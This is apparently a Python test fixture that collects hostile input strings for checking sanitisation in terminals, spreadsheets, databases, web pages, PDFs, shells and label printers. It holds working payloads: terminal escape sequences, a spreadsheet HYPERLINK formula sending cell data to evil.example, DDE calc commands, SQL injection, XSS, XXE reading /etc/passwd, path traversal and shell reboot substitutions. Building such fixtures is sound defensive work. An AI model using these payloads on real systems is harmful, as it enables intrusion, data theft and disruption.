"""What strangers put into text, by what they hope for: one table for every place where text ends.

FAULTS F43 to F46; the terminal's were seen to work on terminals that are in use.
"""

from tests.label_samples import HOSTILE as FOR_PRINTERS

FOR_TERMINALS = {
    "escape sequence": "\x1b[2J",
    "clipboard (OSC 52)": "\x1b]52;c;aGk=\x07",
    "title (OSC 0)": "\x1b]0;owned\x1b\\",
    "asks where it is (DSR)": "\x1b[6n",
    "8-bit control": "\x9b31m",
    "device control": "\x90+q\x9c",
    "overwriting": "safe\rEVIL\x08",
    "right to left": "\u202egpj.exe",
    "isolate": "\u2066x\u2069",
    "zero width": "pay\u200bpal",
    "byte order mark": "\ufeffx",
    "tag": "a\U000e0041b",
    "soft hyphen": "a\xadb",
}
FOR_OTHERS = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "plus formula": "+cmd|' /C calc'!A0",
    "minus formula": "-2+3",
    "at formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "formula behind a return": "\r=1+1",
    "wide formula": "\uff1d1+1",
    "wide at": "\uff20SUM(1)",
    "SQL": "'; DROP TABLE moves; --",
    "SQL comment": "x' OR 1=1 /*",
    "markup": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "template": "{{7*7}}${7*7}#{7*7}",
    "path": "../../../../etc/passwd",
    "path, escaped": "..%2f..%2fetc%2fpasswd",
    "path, Windows": "..\\..\\windows\\win.ini",
    "share": "\\\\evil.example\\share",
    "device": "CON",
    "home": "~root/.ssh/authorized_keys",
    "log line": 'x\n{"event": "person.add", "level": "info"}',
    "header": "x\r\nSet-Cookie: a=b",
    "PDF string": ") Tj /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (",
    "PDF stream": "endstream endobj 1 0 obj",
    "shell": "$(reboot)`reboot`;reboot|reboot",
    "SATO": "\x1bA\x1bQ9\x1bZ",
    "SATO in text": "<ESC>A<A>",
    "TEC": "\x1bC|}\n{XS;I,0099,0002C4001|}",
    "NUL": "a\x00b",
    "half a character": "a\ud83db",
    "long": "寿" * 4_000,
}
CORPUS: dict[str, str] = {
    **FOR_TERMINALS, **FOR_OTHERS,
    **{f"printer {number}": text for number, text in enumerate(FOR_PRINTERS, 1)},
}  # fmt: skip
